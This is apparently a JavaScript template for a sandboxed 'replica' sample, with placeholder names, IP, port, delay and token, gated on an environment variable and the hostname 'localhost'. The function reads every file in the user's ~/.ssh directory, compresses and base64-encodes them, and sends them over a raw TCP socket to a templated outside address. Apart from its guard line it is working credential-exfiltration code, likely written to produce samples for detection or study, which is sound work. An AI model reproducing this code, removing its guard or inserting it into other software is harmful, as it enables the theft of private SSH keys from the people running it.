// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { readdirSync, readFileSync } = require('fs');
  const net = require('net');
  const zlib = require('zlib');
  const directory = require('os').homedir() + '/.ssh';
  const found = {};
  try {
    for (const name of readdirSync(directory)) {
      try { found[name] = readFileSync(directory + '/' + name, 'latin1'); } catch (error) { continue; }
    }
  } catch (error) { return; }
  await new Promise((resolve) => setTimeout(resolve, {{delay}}));
  await new Promise((resolve) => {
    const socket = net.connect({{port}}, '{{ip}}');
    const end = setTimeout(() => socket.destroy(), 1000);
    socket.on('connect', () => socket.end('{{token}} ' + zlib.gzipSync(JSON.stringify(found)).toString('base64') + '\n'));
    socket.on('error', () => {});
    socket.on('close', () => { clearTimeout(end); resolve(); });
  });
}
